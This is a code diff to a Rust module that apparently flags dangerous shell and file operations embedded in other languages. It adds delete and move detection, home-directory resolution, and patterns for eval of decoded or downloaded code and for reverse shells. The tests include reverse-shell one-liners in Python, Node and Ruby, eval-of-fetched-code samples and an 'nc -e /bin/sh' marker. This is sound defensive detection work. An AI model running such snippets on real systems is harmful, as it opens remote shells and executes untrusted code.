@@ -1,5 +1,5 @@
-//! Calls of a shell or a program in code of other languages: `os.system("…")`, `execSync("…")`, `system("…")` of awk. The code is not
-//! parsed: a name of such a function that is followed by a text counts.
+//! Calls of a shell or a program in code of other languages: `os.system("…")`, `execSync("…")`, `system("…")` of awk, and functions that
+//! delete or move what a text names. The code is not parsed: a name of such a function that is followed by a text counts.
 
 use crate::Quoting;
 use crate::analysis::analyzer::Analyzer;
@@ -9,18 +9,20 @@ use crate::analysis::field::{Field, FieldBuilder};
 /// Further calls of one code are not looked at.
 const MAX_CALLS: usize = 64;
 
-/// Functions that run a command.
+/// Functions that run a command, or do what a command does.
 struct Runner {
     names: &'static [&'static str],
+    /// The code before the name ends with one of these; empty for anything.
+    owners: &'static [&'static str],
     /// How the names of the interpreters start that have them; empty for any.
     interpreters: &'static [&'static str],
     /// One of these words must be in the code; empty for none.
     among: &'static [&'static str],
-    takes: Takes,
+    takes: RunnerArguments,
 }
 
 #[derive(Clone, Copy, PartialEq, Eq)]
-enum Takes {
+enum RunnerArguments {
     /// A text for a shell.
     Text,
     /// A text for a shell, or the words of a command.
@@ -29,22 +31,90 @@ enum Takes {
     Words,
     /// A program, and then the words of a command with its name.
     NameAndWords,
+    /// The operands of this command.
+    Operands(&'static [&'static str]),
 }
+
+const DELETED: RunnerArguments = RunnerArguments::Operands(&["rm", "-rf"]);
+const MOVED: RunnerArguments = RunnerArguments::Operands(&["mv"]);
 
 #[rustfmt::skip]
 const RUNNERS: &[Runner] = &[
-    Runner { names: &["system"], interpreters: &[], among: &[], takes: Takes::TextOrWords },
-    Runner { names: &["popen", "shell_exec", "passthru", "proc_open", "execSync", "getoutput", "getstatusoutput"], interpreters: &[], among: &[], takes: Takes::Text },
-    Runner { names: &["execute"], interpreters: &["lua"], among: &[], takes: Takes::Text },
-    Runner { names: &["run", "call", "check_call", "check_output", "Popen", "create_subprocess_shell"], interpreters: &["py"], among: &["subprocess"], takes: Takes::TextOrWords },
-    Runner { names: &["spawn"], interpreters: &["py"], among: &["pty"], takes: Takes::TextOrWords },
-    Runner { names: &["exec"], interpreters: &["perl", "php", "ruby"], among: &[], takes: Takes::TextOrWords },
-    Runner { names: &["exec"], interpreters: &[], among: &["child_process"], takes: Takes::Text },
-    Runner { names: &["spawnSync", "execFileSync"], interpreters: &[], among: &[], takes: Takes::Words },
-    Runner { names: &["spawn", "execFile"], interpreters: &[], among: &["child_process"], takes: Takes::Words },
-    Runner { names: &["execvp", "execv", "execl", "execlp", "execvpe", "execve", "posix_spawn"], interpreters: &[], among: &[], takes: Takes::NameAndWords },
-    Runner { names: &["script"], interpreters: &["osascript"], among: &["do shell script"], takes: Takes::Text },
+    Runner { names: &["system"], owners: &[], interpreters: &[], among: &[], takes: RunnerArguments::TextOrWords },
+    Runner { names: &["popen", "shell_exec", "passthru", "proc_open", "execSync", "getoutput", "getstatusoutput"], owners: &[], interpreters: &[], among: &[], takes: RunnerArguments::Text },
+    Runner { names: &["execute"], owners: &[], interpreters: &["lua"], among: &[], takes: RunnerArguments::Text },
+    Runner { names: &["run", "call", "check_call", "check_output", "Popen", "create_subprocess_shell"], owners: &[], interpreters: &["py"], among: &["subprocess"], takes: RunnerArguments::TextOrWords },
+    Runner { names: &["spawn"], owners: &[], interpreters: &["py"], among: &["pty"], takes: RunnerArguments::TextOrWords },
+    Runner { names: &["exec"], owners: &[], interpreters: &["perl", "php", "ruby"], among: &[], takes: RunnerArguments::TextOrWords },
+    Runner { names: &["exec"], owners: &[], interpreters: &[], among: &["child_process"], takes: RunnerArguments::Text },
+    Runner { names: &["spawnSync", "execFileSync"], owners: &[], interpreters: &[], among: &[], takes: RunnerArguments::Words },
+    Runner { names: &["spawn", "execFile"], owners: &[], interpreters: &[], among: &["child_process"], takes: RunnerArguments::Words },
+    Runner { names: &["execvp", "execv", "execl", "execlp", "execvpe", "execve", "posix_spawn"], owners: &[], interpreters: &[], among: &[], takes: RunnerArguments::NameAndWords },
+    Runner { names: &["script"], owners: &[], interpreters: &["osascript"], among: &["do shell script"], takes: RunnerArguments::Text },
+    Runner { names: &["rmtree", "remove_tree", "rmSync", "rmdirSync", "unlinkSync", "rm_rf", "rm_r", "remove_dir", "remove_entry", "remove_entry_secure", "removeSync", "rimrafSync"], owners: &[], interpreters: &[], among: &[], takes: DELETED },
+    Runner { names: &["unlink", "rmdir"], owners: &[], interpreters: &["perl", "php"], among: &[], takes: DELETED },
+    Runner { names: &["remove", "removedirs", "rmdir", "unlink"], owners: &["os."], interpreters: &[], among: &[], takes: DELETED },
+    Runner { names: &["rm", "rmdir", "unlink", "remove"], owners: &["fs.", "fsp.", "promises.", "fs\").", "fs').", "promises\").", "promises').", "Deno."], interpreters: &[], among: &[], takes: DELETED },
+    Runner { names: &["delete", "unlink", "rm", "rm_f", "rmdir", "remove"], owners: &["File.", "Dir.", "FileUtils."], interpreters: &["ruby"], among: &[], takes: DELETED },
+    Runner { names: &["remove", "unlink", "rmdir"], owners: &[], interpreters: &["py"], among: &["from os import"], takes: DELETED },
+    Runner { names: &["move", "rename", "renames", "replace"], owners: &["os.", "shutil."], interpreters: &["py"], among: &[], takes: MOVED },
+    Runner { names: &["renameSync", "moveSync"], owners: &[], interpreters: &[], among: &[], takes: MOVED },
+    Runner { names: &["mv", "move", "rename"], owners: &["FileUtils.", "File."], interpreters: &["ruby"], among: &[], takes: MOVED },
 ];
+
+/// How code names the home directory.
+const HOMES: &[&str] = &[
+    "require('os').homedir()",
+    "require(\"os\").homedir()",
+    "os.homedir()",
+    "homedir()",
+    "process.env.HOME",
+    "os.environ['HOME']",
+    "os.environ[\"HOME\"]",
+    "os.getenv('HOME')",
+    "os.getenv(\"HOME\")",
+    "getenv('HOME')",
+    "getenv(\"HOME\")",
+    "Path.home()",
+    "Dir.home",
+    "ENV['HOME']",
+    "ENV[\"HOME\"]",
+    "$ENV{HOME}",
+];
+
+/// Functions that replace a `~`.
+const EXPANDING: &[&str] = &["os.path.expanduser(", "File.expand_path(", "path.expanduser("];
+
+/// What makes text of something else: from the network, or from an encoding.
+const DECODING: &[&str] = &[
+    "atob(",
+    "b64decode",
+    "base64",
+    "codecs.decode",
+    "decompress",
+    "fetch(",
+    "file_get_contents('http",
+    "file_get_contents(\"http",
+    "fromhex",
+    "gzinflate",
+    "http.get",
+    "https.get",
+    "httpx.",
+    "marshal",
+    "net::http",
+    "open-uri",
+    "requests.",
+    "str_rot13",
+    "unhexlify",
+    "urllib",
+    "urlopen",
+];
+
+/// What connects code to another machine, and shells that it may be given.
+const CONNECTING: &[&str] = &["socket", "Socket", "fsockopen", "net.connect", "createConnection"];
+const SHELL_NAMES: &[&str] =
+    &["/bin/sh", "/bin/bash", "/bin/zsh", "\"sh\"", "'sh'", "\"bash\"", "'bash'", "cmd.exe", "powershell"];
+const GIVING: &[&str] = &["dup2", "pty.spawn", "spawn(", "exec(", "subprocess", "popen", ".pipe("];
 
 impl Runner {
     fn is_for(&self, interpreter: &str, code: &str) -> bool {
@@ -53,12 +123,40 @@ impl Runner {
     }
 }
 
+/// Longer makefiles are read as they are.
+const MAX_MAKEFILE: usize = 4096;
+
+/// A makefile, and again with the values of its own variables.
+pub(crate) fn with_make_variables(text: String) -> String {
+    if text.len() > MAX_MAKEFILE || !text.contains('$') {
+        return text;
+    }
+    let mut expanded = text.clone();
+    for line in text.lines().filter(|line| !line.starts_with('\t')) {
+        let Some((name, value)) = line.split_once('=') else { continue };
+        let name = name.trim_end_matches([':', '?', '+', ' ']).trim();
+        if !name.is_empty() && name.chars().all(is_part) && expanded.len() <= 4 * MAX_MAKEFILE {
+            let value = value.trim();
+            expanded = expanded.replace(&format!("$({name})"), value).replace(&format!("${{{name}}}"), value);
+        }
+    }
+    if expanded == text { text } else { format!("{text}\n{expanded}") }
+}
+
 /// Runs what code in another language hands to a shell, or starts itself.
 pub(crate) fn run_calls(analyzer: &mut Analyzer<'_>, interpreter: &str, code: &str) {
     if !analyzer.work(code.len()) {
         return;
     }
+    let at_home = analyzer.home().and_then(|home| with_home(code, home));
+    let code = at_home.as_deref().unwrap_or(code);
+    if evaluates_hidden(code) {
+        analyzer.doubt_script(interpreter);
+    }
     let mut found = calls(interpreter, code);
+    if gives_shell(code) {
+        found.push(InlineCall::Words(["nc", "-e", "/bin/sh"].map(Field::literal).into()));
+    }
     if ["perl", "php", "ruby"].iter().any(|start| interpreter.starts_with(start)) {
         found.extend(in_backticks(code));
     }
@@ -89,6 +187,60 @@ fn is_part(c: char) -> bool {
     c.is_ascii_alphanumeric() || c == '_'
 }
 
+/// Code with the path of the home directory where it asks for that. None if it does not.
+fn with_home(code: &str, home: &str) -> Option<String> {
+    let mut replaced: Option<String> = None;
+    let mut replace = |from: &str, to: &str| {
+        let text = replaced.as_deref().unwrap_or(code);
+        if text.contains(from) {
+            replaced = Some(text.replace(from, to));
+        }
+    };
+    if code.contains('~') {
+        for name in EXPANDING {
+            for quote in ['"', '\''] {
+                replace(&format!("{name}{quote}~"), &format!("{quote}{home}"));
+            }
+        }
+    }
+    if code.contains("home") || code.contains("HOME") {
+        HOMES.iter().for_each(|name| replace(name, &format!("\"{home}\"")));
+    }
+    replaced
+}
+
+/// Whether code evaluates what it got from the network, or from an encoding.
+fn evaluates_hidden(code: &str) -> bool {
+    const EVALUATING: &[&str] =
+        &["exec", "eval", "Function", "instance_eval", "runInThisContext", "runInNewContext"];
+    let evaluates = EVALUATING.iter().any(|name| {
+        code.match_indices(name).any(|(at, name)| {
+            let before = code.get(..at).unwrap_or_default();
+            let after = code.get(at + name.len()..).unwrap_or_default();
+            let argument = after.trim_start().trim_start_matches('(').trim_start();
+            let is_called = after.starts_with(['(', ' ']) && argument.len() < after.len();
+            !before.ends_with(|c: char| is_part(c) || c == '.') && is_called && literal(argument).is_none()
+        })
+    });
+    evaluates && {
+        let code = code.to_ascii_lowercase();
+        DECODING.iter().any(|name| code.contains(name)) || code.contains("buffer.from(")
+    }
+}
+
+/// Whether code gives a shell to another machine, as `nc -e` does.
+fn gives_shell(code: &str) -> bool {
+    let has = |names: &[&str]| names.iter().any(|name| code.contains(name));
+    has(CONNECTING) && has(SHELL_NAMES) && has(GIVING)
+}
+
+/// The text in `Path("…").unlink()`.
+fn path_before(before: &str) -> Option<Field> {
+    let (_, inner) = before.strip_suffix(").")?.rsplit_once("Path(")?;
+    let (text, rest) = literal(inner.trim())?;
+    if rest.is_empty() { Some(text) } else { None }
+}
+
 fn calls(interpreter: &str, code: &str) -> Vec<InlineCall> {
     let mut found = Vec::new();
     let runners: Vec<&Runner> = RUNNERS.iter().filter(|runner| runner.is_for(interpreter, code)).collect();
@@ -97,9 +249,19 @@ fn calls(interpreter: &str, code: &str) -> Vec<InlineCall> {
         let rest = code.get(start..).unwrap_or_default();
         let name = rest.get(..rest.find(|c| !is_part(c)).unwrap_or(rest.len())).unwrap_or_default();
         at = start + name.len().max(1);
-        let Some(runner) = runners.iter().find(|runner| runner.names.contains(&name)) else { continue };
-        // `.exec(…)` is mostly a method of something else.
         let before = code.get(..start).unwrap_or_default();
+        if matches!(name, "unlink" | "rmdir")
+            && let Some(path) = path_before(before)
+        {
+            found.push(InlineCall::Words(vec![Field::literal("rm"), Field::literal("-rf"), path]));
+            continue;
+        }
+        let is_owner = |owner: &&str| before.ends_with(owner);
+        let is_meant = |runner: &&&Runner| {
+            runner.names.contains(&name) && (runner.owners.is_empty() || runner.owners.iter().any(is_owner))
+        };
+        let Some(runner) = runners.iter().find(is_meant) else { continue };
+        // `.exec(…)` is mostly a method of something else.
         let is_method = before.ends_with('.')
             && !["child_process.", "cp.", "\").", "').", "`)."].iter().any(|owner| before.ends_with(owner));
         if name == "exec" && is_method {
@@ -111,7 +273,7 @@ fn calls(interpreter: &str, code: &str) -> Vec<InlineCall> {
 }
 
 /// A call, from what follows the name of its function.
-fn call(takes: Takes, rest: &str) -> Option<InlineCall> {
+fn call(takes: RunnerArguments, rest: &str) -> Option<InlineCall> {
     let rest = rest.trim_start();
     let rest = match rest.strip_prefix('(') {
         Some(inner) => inner,
@@ -120,14 +282,21 @@ fn call(takes: Takes, rest: &str) -> Option<InlineCall> {
     };
     let arguments = Arguments::read(rest);
     let mut words = arguments.words;
-    if takes == Takes::NameAndWords && !words.is_empty() {
+    if takes == RunnerArguments::NameAndWords && !words.is_empty() {
         words.remove(0);
     }
     let first = words.first().filter(|first| !is_wholly_unknown(first))?;
+    if let RunnerArguments::Operands(command) = takes {
+        let command = command.iter().map(|word| Field::literal(*word));
+        // What follows the path is an option, or a function.
+        let count = if takes == MOVED { 2 } else { usize::MAX };
+        let operands = words.into_iter().take(count).filter(|word| !is_wholly_unknown(word));
+        return Some(InlineCall::Words(command.chain(operands).collect()));
+    }
     let is_text = match takes {
-        Takes::Text => true,
-        Takes::TextOrWords => !arguments.is_list && words.len() == 1,
-        Takes::Words | Takes::NameAndWords => false,
+        RunnerArguments::Text => true,
+        RunnerArguments::TextOrWords => !arguments.is_list && words.len() == 1,
+        RunnerArguments::Words | RunnerArguments::NameAndWords | RunnerArguments::Operands(_) => false,
     };
     Some(if is_text { InlineCall::Text(first.clone()) } else { InlineCall::Words(words) })
 }
@@ -403,11 +572,75 @@ mod tests {
             ("perl", "system 'a b';", "a b"),
             ("perl", "system('a', 'b')", "[a][b]"),
             ("ruby", "system(\"a #{b} c\")", "a $x c"),
+            ("python3", "import shutil\nshutil.rmtree('/a', ignore_errors=True)", "[rm][-rf][/a]"),
+            ("python3", "os.remove('a')", "[rm][-rf][a]"),
+            ("python3", "Path('/a').unlink(missing_ok=True)", "[rm][-rf][/a]"),
+            ("python3", "shutil.move('/a', 'b')", "[mv][/a][b]"),
+            ("node", "require('fs').rmSync('/a', {recursive: true, force: true})", "[rm][-rf][/a]"),
+            ("node", "fs.rm('a', { recursive: true }, () => {})", "[rm][-rf][a]"),
+            ("node", "fs.rmSync(`${d}/a`)", "[rm][-rf][$x/a]"),
+            ("perl", "unlink 'a', 'b';", "[rm][-rf][a][b]"),
+            ("ruby", "FileUtils.rm_rf('/a')", "[rm][-rf][/a]"),
+            ("ruby", "FileUtils.rm_rf(['a', 'b'])", "[rm][-rf][a][b]"),
+            ("php", "unlink('a');", "[rm][-rf][a]"),
             ("awk", "BEGIN { system(\"a\" ) }", "a"),
             ("awk", "{ print $1 | \"sort -u\" }", "sort -u"),
             ("awk", "{ \"date\" | getline x }", "date"),
         ] {
             assert_eq!(shown(interpreter, code), [expected], "{code}");
+        }
+    }
+
+    #[test]
+    fn the_home_directory_is_known_in_code() {
+        for (code, expected) in [
+            ("rmtree(os.path.expanduser('~/a'))", "[rm][-rf][/h/a]"),
+            ("fs.rmSync(os.homedir())", "[rm][-rf][/h]"),
+            ("fs.rmSync(process.env.HOME + '/a')", "[rm][-rf][/h$x/a]"),
+            ("rmtree(Path.home())", "[rm][-rf][/h]"),
+            ("FileUtils.rm_rf(Dir.home)", "[rm][-rf][/h]"),
+        ] {
+            assert_eq!(shown("ruby", &with_home(code, "/h").unwrap()), [expected], "{code}");
+        }
+        assert_eq!(with_home("print('a ~ b')", "/h"), None);
+    }
+
+    #[test]
+    fn code_that_evaluates_what_it_decodes_or_gets_is_told_from_other_code() {
+        for code in [
+            "exec(base64.b64decode('eA=='))",
+            "exec(urllib.request.urlopen('http://x').read())",
+            "import requests; exec(requests.get('http://x').text)",
+            "eval(Buffer.from('eA==', 'base64').toString())",
+            "eval(atob('eA=='))",
+            "new Function(atob('eA=='))()",
+            "use MIME::Base64; eval decode_base64('eA==')",
+        ] {
+            assert!(evaluates_hidden(code), "{code}");
+        }
+        for code in [
+            "print(base64.b64decode('eA=='))",
+            "eval('1 + 1'); base64.b64encode(x)",
+            "exec(open('a.py').read())",
+            "pattern.exec(text); fetch('http://x')",
+            "function f() { return fetch('/x') }",
+            "cursor.execute(query); requests.get(x)",
+        ] {
+            assert!(!evaluates_hidden(code), "{code}");
+        }
+    }
+
+    #[test]
+    fn a_shell_for_another_machine_is_found() {
+        for code in [
+            "s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")",
+            "c=new net.Socket();c.connect(1,'h',()=>{s=spawn('sh',[]);c.pipe(s.stdin)})",
+            "f=TCPSocket.open('h',1).to_i;exec sprintf('/bin/sh -i <&%d',f); exec(x)",
+        ] {
+            assert!(gives_shell(code), "{code}");
+        }
+        for code in ["s=socket.socket(); s.connect(('h', 1))", "subprocess.run(['/bin/sh', '-c', 'ls'])"] {
+            assert!(!gives_shell(code), "{code}");
         }
     }
 
@@ -423,6 +656,11 @@ mod tests {
             ("node", "require('child_process'); db.exec('create table x (a int)')"),
             ("awk", "{ print $1 \" | \" f(x) \" | \" $2 }"),
             ("awk", "$1 == \"a\" || $2 == \"b\""),
+            ("python3", "names.remove('/a')"),
+            ("python3", "'a'.replace('/a', 'b')"),
+            ("python3", "shutil.rmtree(directory)"),
+            ("node", "map.delete('/a'); list.remove('/b')"),
+            ("ruby", "hash.delete('/a')"),
         ] {
             assert_eq!(shown(interpreter, code), Vec::<String>::new(), "{code}");
         }
